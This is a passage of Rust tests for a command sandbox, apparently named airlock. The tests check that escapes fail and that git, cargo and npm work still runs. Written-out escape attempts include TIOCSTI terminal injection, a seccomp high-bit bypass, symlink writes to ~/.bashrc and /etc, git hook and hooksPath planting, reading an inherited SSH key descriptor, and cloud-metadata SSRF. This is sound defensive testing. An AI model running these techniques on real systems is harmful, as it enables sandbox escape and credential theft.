    assert!(out.stdout.contains("unshare user denied"), "{out}");
    assert!(!out.stdout.lines().any(|l| l.starts_with("unshare ") && l.contains(" ok ")), "{out}");
}

#[test]
fn setuid_binary_does_not_elevate() {
    require_sandbox!();
    let fx = Fx::new();
    let bin = fx.ws.join("suid-id");
    fs::copy("/usr/bin/id", &bin).unwrap();
    let chown = Command::new("chown").arg("1234:1234").arg(&bin).output().unwrap();
    if !chown.status.success() {
        eprintln!("SKIP: setuid binary (chown to another user needs root on the host: {})", String::from_utf8_lossy(&chown.stderr).trim());
        return;
    }
    fs::set_permissions(&bin, fs::Permissions::from_mode(0o6755)).unwrap();
    assert_eq!(fs::metadata(&bin).unwrap().permissions().mode() & 0o7777, 0o6755);
    let out = fx.sh(&[], "./suid-id -u; ./suid-id -g; ./suid-id; true");
    fx.assert_ran_clean(&out);
    let ids: Vec<&str> = out.stdout.lines().filter(|l| !l.contains(RAN)).collect();
    assert!(!ids.is_empty(), "the setuid copy did not run:\n{out}");
    assert!(!ids.iter().any(|l| l.trim() == "1234" || l.contains("euid=1234") || l.contains("egid=1234")), "setuid took effect:\n{out}");
}

/// A new session whose controlling terminal is a pty the sandboxed process opened: without the
/// seccomp rule the kernel would accept TIOCSTI here (it is the caller's own terminal).
const TIOCSTI_INSIDE: &str = r#"
import fcntl, os, sys, termios, tty
m, s = os.openpty()
tty.setraw(s)
pid = os.fork()
if pid == 0:
    os.setsid()
    fcntl.ioctl(s, termios.TIOCSCTTY, 0)
    try:
        fcntl.ioctl(s, termios.TIOCSTI, b'x')
        print('pty TIOCSTI ok', flush=True)
    except OSError as e:
        print('pty TIOCSTI denied', e.errno, flush=True)
    os._exit(0)
os.waitpid(pid, 0)
os.set_blocking(m, False)
"#;

const TIOCSTI_STDIN: &str = r#"
import fcntl, os, termios
print('stdin isatty', os.isatty(0), flush=True)
try:
    fcntl.ioctl(0, termios.TIOCSTI, b'x')
    print('tty TIOCSTI ok', flush=True)
except OSError as e:
    print('tty TIOCSTI denied', e.errno, flush=True)
"#;

/// Runs argv with a fresh pty as its controlling terminal and stdin (raw mode); prints the
/// child's stdout, then `HOST-TTY-INPUT <bytes>` with anything that was pushed into the
/// terminal's input queue, then `EXIT <code>`.
const PTY_HARNESS: &str = r#"
import fcntl, json, os, subprocess, sys, termios, tty
m, s = os.openpty()
tty.setraw(s)
def ctty():
    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
p = subprocess.Popen(sys.argv[1:], stdin=s, stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True, preexec_fn=ctty)
out, err = p.communicate(timeout=50)
sys.stdout.write(out.decode(errors='replace'))
sys.stderr.write(err.decode(errors='replace'))
os.set_blocking(s, False)
try:
    pending = os.read(s, 1024)
except BlockingIOError:
    pending = b''
print('HOST-TTY-INPUT', repr(pending))
print('EXIT', p.returncode)
"#;

#[test]
fn tiocsti_injection_is_denied() {
    require_sandbox!();
    let fx = Fx::new();
    // On a terminal the sandboxed process opens itself.
    let out = fx.py(&[], TIOCSTI_INSIDE);
    fx.assert_ran_clean(&out);
    assert!(out.stdout.contains("pty TIOCSTI denied 1\n"), "TIOCSTI not refused with EPERM:\n{out}");

    // On the user's terminal, inherited as stdin: nothing may be typed into it.
    let inner = fx.command(&[], &[PY, "-c", &format!("print({RAN:?}, flush=True)\n{TIOCSTI_STDIN}")]);
    let mut harness = Command::new(PY);
    harness.arg("-c").arg(PTY_HARNESS).arg(inner.get_program()).args(inner.get_args()).current_dir(&fx.ws);
    for (k, v) in inner.get_envs() {
        match v {
            Some(v) => harness.env(k, v),
            None => harness.env_remove(k),
        };
    }
    let out = run_with_timeout(harness, None, TIMEOUT);
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains("tty TIOCSTI ok"), "TIOCSTI on the inherited terminal succeeded:\n{out}");
    assert!(out.stdout.contains("HOST-TTY-INPUT b''"), "input was pushed into the host terminal:\n{out}");
}

const MOUNT: &str = r#"
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
r = libc.mount(b'none', b'/mnt', b'tmpfs', 0, None)
print('mount', 'ok' if r == 0 else 'denied', ctypes.get_errno(), flush=True)
r = libc.umount2(b'/proc', 2)
print('umount', 'ok' if r == 0 else 'denied', ctypes.get_errno(), flush=True)
"#;

#[test]
fn mount_is_denied() {
    require_sandbox!();
    let fx = Fx::new();
    let out = fx.sh(
        &[],
        &format!(
            "mount -t tmpfs none /mnt && echo MOUNT-\"OK\"; mount --bind / \"$PWD/rootview\" && echo MOUNT-\"OK\"; \
             mount -o remount,rw / && echo MOUNT-\"OK\"; umount -l /proc && echo MOUNT-\"OK\"; {PY} {}; true",
            fx.script("mount_probe.py", MOUNT)
        ),
    );
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains("MOUNT-OK"), "{out}");
    assert!(out.stdout.contains("mount denied 1\n") && out.stdout.contains("umount denied 1\n"), "{out}");
}

// ---------------------------------------------------------------------------------------------
// Everyday work passes inside

#[test]
fn git_status_and_commit_work_inside() {
    require_sandbox!();
    let fx = Fx::new();
    fs::write(fx.ws.join("README.md"), "# fixture\nchanged inside\n").unwrap();
    let msg = unique("commit-from-inside-");
    let out = fx.sh(
        &[],
        &format!(
            "git status --porcelain && git -c user.name=Inside -c user.email=inside@example.com commit -q -am {msg} && \
             git log -1 --format=%s"
        ),
    );
    fx.assert_ran_clean(&out);
    assert_eq!(out.code, Some(0), "{out}");
    assert!(out.stdout.contains(" M README.md"), "{out}");
    assert_eq!(git(&fx.ws, &["log", "-1", "--format=%s"]).trim(), msg, "the commit did not land on the host:\n{out}");
    assert!(git(&fx.ws, &["status", "--porcelain"]).trim().is_empty());
}

/// The real HOME (with its toolchains in ~/.cargo and ~/.rustup, ~/.npm): everyday builds use it.
fn real_home() -> String {
    std::env::var("HOME").unwrap_or_else(|_| "/root".to_string())
}

#[test]
fn cargo_build_offline_works_inside() {
    require_sandbox!();
    let fx = Fx::new();
    let token = unique("tiny-crate-");
    fs::create_dir_all(fx.ws.join("tiny/src")).unwrap();
    fs::write(fx.ws.join("tiny/Cargo.toml"), "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n").unwrap();
    fs::write(fx.ws.join("tiny/src/main.rs"), format!("fn main() {{ println!(\"{token}\"); }}\n")).unwrap();
    let mut cmd = fx.command(
        &[],
        &["sh", "-c", &format!("echo {RAN}; cd tiny && cargo build --offline --target-dir target 2>&1 && ./target/debug/tiny")],
    );
    cmd.env("HOME", real_home());
    let out = run_with_timeout(cmd, None, Duration::from_secs(300));
    fx.assert_ran_clean(&out);
    assert_eq!(out.code, Some(0), "{out}");
    assert!(out.stdout.contains(&token), "{out}");
    assert!(fx.ws.join("tiny/target/debug/tiny").exists());
}

#[test]
fn npm_offline_install_and_script_work_inside() {
    require_sandbox!();
    require_tool!("npm");
    let fx = Fx::new();
    let token = unique("npm-lib-");
    fs::create_dir_all(fx.ws.join("lib")).unwrap();
    fs::create_dir_all(fx.ws.join("app")).unwrap();
    fs::write(fx.ws.join("lib/package.json"), r#"{"name": "airlock-fixture-lib", "version": "1.0.0", "main": "index.js"}"#).unwrap();
    fs::write(fx.ws.join("lib/index.js"), format!("module.exports = {{ token: \"{token}\" }};\n")).unwrap();
    fs::write(
        fx.ws.join("app/package.json"),
        r#"{"name": "app", "version": "1.0.0", "private": true,
  "dependencies": {"airlock-fixture-lib": "file:../lib/airlock-fixture-lib-1.0.0.tgz"},
  "scripts": {"check": "node -e \"console.log(require('airlock-fixture-lib').token, require('./package.json').name)\""}}"#,
    )
    .unwrap();
    let mut cmd = fx.command(
        &[],
        &[
            "sh",
            "-c",
            &format!(
                "echo {RAN}; C=\"$PWD/.npm-cache\"; cd lib && npm pack --silent --cache \"$C\" && cd ../app && \
                 npm install --offline --no-audit --no-fund --cache \"$C\" 2>&1 && npm run -s check"
            ),
        ],
    );
    cmd.env("HOME", real_home());
    let out = run_with_timeout(cmd, None, Duration::from_secs(180));
    fx.assert_ran_clean(&out);
    assert_eq!(out.code, Some(0), "{out}");
    assert!(out.stdout.contains(&format!("{token} app")), "{out}");
    assert!(fx.ws.join("app/node_modules/airlock-fixture-lib/index.js").exists(), "{out}");
}

/// Serves `body` over HTTP on 127.0.0.1 until the listener is dropped with the test.
fn serve_http(body: String) -> u16 {
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let mut r = BufReader::new(s.try_clone().unwrap());
            let mut line = String::new();
            while r.read_line(&mut line).map(|n| n > 0).unwrap_or(false) && line != "\r\n" {
                line.clear();
            }
            let _ = write!(s, "HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
        }
    });
    port
}

#[test]
fn curl_to_forwarded_local_port_works() {
    require_sandbox!();
    require_tool!("curl");
    let fx = Fx::new();
    let body = unique("served-body-");
    let port = serve_http(body.clone());
    let out = fx.sh(&["--allow-port-forward", &port.to_string()], &format!("curl -sS --max-time 10 http://127.0.0.1:{port}/"));
    fx.assert_ran_clean(&out);
    assert_eq!(out.code, Some(0), "{out}");
    assert!(out.stdout.contains(&body), "{out}");
    // And once more with the proxy path on: NO_PROXY must keep localhost direct.
    let out = fx.sh(
        &["--allow-port-forward", &port.to_string(), "--allow-domain", "allowed.example"],
        &format!("curl -sS --max-time 10 http://127.0.0.1:{port}/"),
    );
    fx.assert_ran_clean(&out);
    assert!(out.stdout.contains(&body), "{out}");
}

#[test]
fn exit_status_and_stdio_pass_through() {
    require_sandbox!();
    let fx = Fx::new();
    let input = unique("stdin-line-");
    let out = run_with_timeout(
        fx.command(&[], &["sh", "-c", "cat; echo to-stderr >&2; exit 7"]),
        Some(format!("{input}\n").into_bytes()),
        TIMEOUT,
    );
    assert_eq!(out.code, Some(7), "{out}");
    assert_eq!(out.stdout, format!("{input}\n"), "{out}");
    assert!(out.stderr.contains("to-stderr"), "{out}");
    fx.assert_no_leak(&out);

    let out = fx.run(&[], &["true"]);
    assert_eq!(out.code, Some(0), "{out}");
    let out = fx.run(&[], &["/nonexistent/airlock-no-such-command"]);
    assert_eq!(out.code, Some(127), "{out}");
    fs::write(fx.ws.join("not-executable.sh"), "#!/bin/sh\necho hi\n").unwrap();
    let script = fx.ws.join("not-executable.sh");
    let out = fx.run(&[], &[script.to_str().unwrap()]);
    assert_eq!(out.code, Some(126), "{out}");
}

/// Starts `airlock run -- sh -c SCRIPT`, waits for `ready` on its stdout, sends SIGTERM to
/// `airlock run` itself, and returns its exit status and the rest of the output.
fn sigterm_during(fx: &Fx, script: &str) -> Out {
    let mut cmd = fx.command(&[], &["sh", "-c", script]);
    cmd.stdout(Stdio::piped()).stderr(Stdio::piped());
    let mut child = cmd.spawn().unwrap();
    let mut stdout = BufReader::new(child.stdout.take().unwrap());
    let se = reader(child.stderr.take().unwrap());
    let mut first = String::new();
    stdout.read_line(&mut first).unwrap();
    if first.trim() != "ready" {
        let _ = child.kill();
        let _ = child.wait();
        panic!("the command did not start: {first:?}\n{}", se.join().unwrap());
    }
    let pid = child.id().to_string();
    assert!(Command::new("kill").args(["-TERM", &pid]).status().unwrap().success());
    let so = reader(stdout);
    let status = wait_until(&mut child, Duration::from_secs(20));
    let (rest, stderr) = (so.join().unwrap(), se.join().unwrap());
    let Some(status) = status else { panic!("`airlock run` ignored SIGTERM\n{rest}\n{stderr}") };
    Out { code: status.code().or_else(|| signal_of(&status).map(|s| 128 + s)), stdout: rest, stderr }
}

#[test]
fn sigterm_reaches_the_command() {
    require_sandbox!();
    let fx = Fx::new();
    // A command that traps it: its handler runs and its exit status comes back.
    let out = sigterm_during(&fx, "trap 'echo trapped > trapped.txt; exit 42' TERM; echo ready; while :; do sleep 0.05; done");
    assert_eq!(out.code, Some(42), "{out}");
    assert_eq!(fs::read_to_string(fx.ws.join("trapped.txt")).unwrap_or_default(), "trapped\n", "{out}");
    // A command that does not: it dies of it, and `airlock run` exits 128+15.
    let out = sigterm_during(&fx, "echo ready; exec sleep 30");
    assert_eq!(out.code, Some(143), "{out}");
}

#[test]
fn stream_sockets_to_the_outside_are_closed_without_allow_list() {
    // With no --allow-domain, nothing outside answers: a public address fails fast and no proxy
    // variable is set.
    require_sandbox!();
    let fx = Fx::new();
    let out = fx.py(
        &[],
        &format!(
            "import os\nprint('proxy', [k for k in os.environ if k.lower().endswith('_proxy')], flush=True)\n{}",
            py_connect(&[("public".to_string(), "AF_INET", "('1.1.1.1', 443)".to_string())])
        ),
    );
    fx.assert_ran_clean(&out);
    assert!(out.stdout.contains("public: refused"), "{out}");
}

#[test]
fn raw_and_netlink_sockets_are_denied() {
    require_sandbox!();
    let fx = Fx::new();
    let out = fx.py(
        &[],
        "import socket\nfor name, fam, typ, proto in [('raw', socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), ('packet', socket.AF_PACKET, socket.SOCK_RAW, 0), ('netlink', socket.AF_NETLINK, socket.SOCK_RAW, 0)]:\n    try:\n        socket.socket(fam, typ, proto)\n        print(name, 'ok', flush=True)\n    except OSError as e:\n        print(name, 'denied', e.errno, flush=True)\n",
    );
    fx.assert_ran_clean(&out);
    for name in ["raw", "packet", "netlink"] {
        assert!(out.stdout.contains(&format!("{name} denied")), "{name} socket created:\n{out}");
    }
}

// ---------------------------------------------------------------------------------------------
// Later additions: worktrees, symlinks, inherited descriptors, the proxy and loopback

#[test]
fn symlink_out_of_workspace_does_not_write_host() {
    // A link planted in the workspace (by an earlier run or by the repository itself) that points
    // outside it must not become a way to write there.
    require_sandbox!();
    let fx = Fx::new();
    std::os::unix::fs::symlink(&fx.outside, fx.ws.join("out-link")).unwrap();
    std::os::unix::fs::symlink(fx.home.join(".bashrc"), fx.ws.join("rc-link")).unwrap();
    let before = snapshot(&fx.outside);
    let rc_before = fs::read(fx.home.join(".bashrc")).unwrap();
    let out = fx.sh(
        &[],
        "echo pwned > out-link/new.txt; echo pwned >> out-link/existing.txt; echo pwned >> rc-link; \
         cat out-link/existing.txt; ln -s / root-link; echo pwned > root-link/etc/airlock-root-link; true",
    );
    let _ = fs::remove_file("/etc/airlock-root-link");
    fx.assert_ran_clean(&out);
    assert_eq!(snapshot(&fx.outside), before, "written outside through a symlink:\n{out}");
    assert_eq!(fs::read(fx.home.join(".bashrc")).unwrap(), rc_before, "~/.bashrc changed through a symlink:\n{out}");
    assert!(!Path::new("/etc/airlock-root-link").exists(), "{out}");
}

#[test]
fn git_worktree_common_dir_is_protected() {
    // The workspace is a linked worktree: its hooks and config live in the main repository's
    // .git (the common dir), outside the workspace; git must work and they must stay read-only.
    require_sandbox!();
    let fx = Fx::new();
    let wt = fx.root.join("wt");
    git(&fx.ws, &["worktree", "add", "-q", "-b", "feature", wt.to_str().unwrap()]);
    let common = fx.ws.join(".git");
    let config_before = fs::read(common.join("config")).unwrap();
    let hooks_before = snapshot(&common.join("hooks"));
    fs::write(wt.join("README.md"), "# fixture\nchanged in the worktree\n").unwrap();
    let mut cmd = Command::new(AIRLOCK);
    cmd.arg("run").arg("--workspace").arg(&wt).arg("--").args([
        "sh",
        "-c",
        &format!(
            "echo {RAN}; git status --porcelain; git -c user.name=In -c user.email=in@example.com commit -q -am wt-commit; \
             C=$(git rev-parse --git-common-dir); echo common=$C; \
             printf '#!/bin/sh\\necho pwned\\n' > \"$C/hooks/pre-commit\"; chmod +x \"$C/hooks/pre-commit\"; \
             git config core.hooksPath /tmp/evil; echo '[core] fsmonitor = pwned' >> \"$C/config\"; \
             mkdir -p \"$C/worktrees/wt\" && echo '[core] hooksPath = /tmp/evil' > \"$C/worktrees/wt/config.worktree\"; true"
        ),
    ]);
    cmd.current_dir(&wt)
        .env("HOME", &fx.home)
        .env("CANARY_SECRET_TOKEN", &fx.env_marker)
        .env("GITHUB_TOKEN", &fx.github_token)
        .env("AIRLOCK_MANAGED_CONFIG", fx.root.join("no-managed.toml"))
        .env("AIRLOCK_USER_CONFIG", fx.root.join("no-user.toml"))
        .stdin(Stdio::null());
    let out = run_with_timeout(cmd, None, TIMEOUT);
    fx.assert_ran_clean(&out);
    assert!(out.stdout.contains(" M README.md"), "git status does not work in the worktree:\n{out}");
    assert_eq!(git(&wt, &["log", "-1", "--format=%s"]).trim(), "wt-commit", "the commit did not land:\n{out}");
    assert_eq!(fs::read(common.join("config")).unwrap(), config_before, "the common config changed:\n{out}");
    assert_eq!(snapshot(&common.join("hooks")), hooks_before, "the common hooks changed:\n{out}");
    let cfg = git(&wt, &["config", "--list"]);
    assert!(!cfg.contains("hookspath") && !cfg.contains("fsmonitor"), "{cfg}\n{out}");
}

/// Runs argv with the file at `path` open on descriptor 5 (inheritable), as a careless agent
/// process might leave it.
const FD_HARNESS: &str = r#"
import os, subprocess, sys
fd = os.open(sys.argv[1], os.O_RDONLY)
os.dup2(fd, 5, inheritable=True)
p = subprocess.run(sys.argv[2:], pass_fds=(5,), capture_output=True)
sys.stdout.write(p.stdout.decode(errors='replace'))
sys.stderr.write(p.stderr.decode(errors='replace'))
sys.exit(p.returncode)
"#;

#[test]
fn inherited_file_descriptors_are_closed() {
    require_sandbox!();
    let fx = Fx::new();
    let inner = fx.command(
        &[],
        &["sh", "-c", &format!("echo {RAN}; ls -l /proc/self/fd; cat <&5; cat /proc/self/fd/5; head -c 400 /proc/1/fd/5; true")],
    );
    let mut harness = Command::new(PY);
    harness.arg("-c").arg(FD_HARNESS).arg(fx.home.join(".ssh/id_ed25519")).arg(inner.get_program()).args(inner.get_args());
    harness.current_dir(&fx.ws);
    for (k, v) in inner.get_envs() {
        match v {
            Some(v) => harness.env(k, v),
            None => harness.env_remove(k),
        };
    }
    let out = run_with_timeout(harness, None, TIMEOUT);
    fx.assert_ran_clean(&out);
}

#[test]
fn egress_proxy_refuses_an_allowed_name_that_resolves_to_loopback() {
    // `localhost` is on the allow list, but the proxy must not connect to a loopback address no
    // port forward names (an SSRF into the host's local services).
    require_sandbox!();
    require_tool!("curl");
    let fx = Fx::new();
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let out = fx.sh(
        &["--allow-domain", "localhost"],
        &format!(
            "curl -fsS --noproxy '' --max-time 10 http://localhost:{port}/ && echo \"FETCHED\"; \
             curl -fsS --noproxy '' --max-time 10 -p http://localhost:{port}/ && echo \"FETCHED\"; \
             curl -fsS --noproxy '' --max-time 10 http://169.254.169.254/latest/meta-data/ && echo \"FETCHED\"; true"
        ),
    );
    fx.assert_ran_clean(&out);
    assert!(!out.stdout.contains("FETCHED"), "{out}");
    assert_accepts_nothing(&listener, "the host's loopback listener");
}

// ---------------------------------------------------------------------------------------------
// seccomp argument truncation: the kernel reads ioctl's `cmd` and socket's `family` as 32-bit
// values, so a filter that compares the whole 64-bit register is bypassed by setting high bits.

const HIGH_BITS: &str = r#"
import ctypes, fcntl, os, termios, tty
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
SYS_ioctl, SYS_socket = 16, 41
m, s = os.openpty()
tty.setraw(s)
pid = os.fork()
if pid == 0:
    os.setsid()
    fcntl.ioctl(s, termios.TIOCSCTTY, 0)
    ch = ctypes.c_char(b'x')
    r = libc.syscall(ctypes.c_long(SYS_ioctl), ctypes.c_long(s), ctypes.c_ulong((1 << 32) | termios.TIOCSTI), ctypes.byref(ch))
    print('ioctl-high-bits', 'ok' if r == 0 else 'denied', ctypes.get_errno(), flush=True)
    os._exit(0)
os.waitpid(pid, 0)
os.set_blocking(m, False)
try:
    print('master-read', os.read(m, 16), flush=True)
except BlockingIOError:
    print('master-read nothing', flush=True)
for name, fam, typ in [('netlink', 16, 3), ('packet', 17, 3), ('raw', 2, 3)]:
    r = libc.syscall(ctypes.c_long(SYS_socket), ctypes.c_ulong((1 << 32) | fam), ctypes.c_long(typ), ctypes.c_long(0))
    print('socket-high-bits', name, 'ok' if r >= 0 else 'denied', ctypes.get_errno(), flush=True)
"#;

#[test]
fn seccomp_arguments_with_high_bits_set_are_still_denied() {
    require_sandbox!();
    let fx = Fx::new();
    let out = fx.run(&[], &[PY, "-c", &format!("print({RAN:?}, flush=True)\n{HIGH_BITS}")]);
    fx.assert_ran_clean(&out);
    assert!(out.stdout.contains("ioctl-high-bits denied"), "TIOCSTI with high bits in cmd went through:\n{out}");
    for name in ["netlink", "packet", "raw"] {
        assert!(out.stdout.contains(&format!("socket-high-bits {name} denied")), "{name} socket with high bits in family:\n{out}");
    }
}
